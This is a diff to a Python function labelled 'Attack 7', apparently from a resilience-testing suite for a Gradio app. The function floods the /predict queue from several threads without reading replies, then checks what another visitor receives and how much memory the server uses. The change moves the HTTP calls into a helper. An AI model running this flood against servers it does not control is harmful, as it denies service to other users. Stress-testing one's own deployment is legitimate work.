@@ -129,26 +129,16 @@ def queue_flood(url, pid, value, threads=4, seconds=60) -> None:
     """Attack 7: join the queue for `/predict` with `value` from `threads` threads for
     `seconds`, never reading an answer; meanwhile another address calls `/predict` once a
     second. Prints what the other visitor got and the server's memory every 15 s."""
-    import http.client
-    import json
     import threading
-    from urllib.parse import urlsplit
 
-    from helpers import call_raw
+    from helpers import call_raw, join_queue
 
     counts = {"queued": 0, "refused": 0}
     stop_at = time.time() + seconds
 
     def join():
-        body = json.dumps({"data": [value]}).encode()
         while time.time() < stop_at:
-            connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
-            try:
-                connection.request("POST", "/gradio_api/call/predict", body=body,
-                                   headers={"Content-Type": "application/json"})
-                counts["queued" if connection.getresponse().status == 200 else "refused"] += 1
-            finally:
-                connection.close()
+            counts["queued" if join_queue(url, "predict", [value])[0] == 200 else "refused"] += 1
 
     workers = [threading.Thread(target=join, daemon=True) for _ in range(threads)]
     for worker in workers:
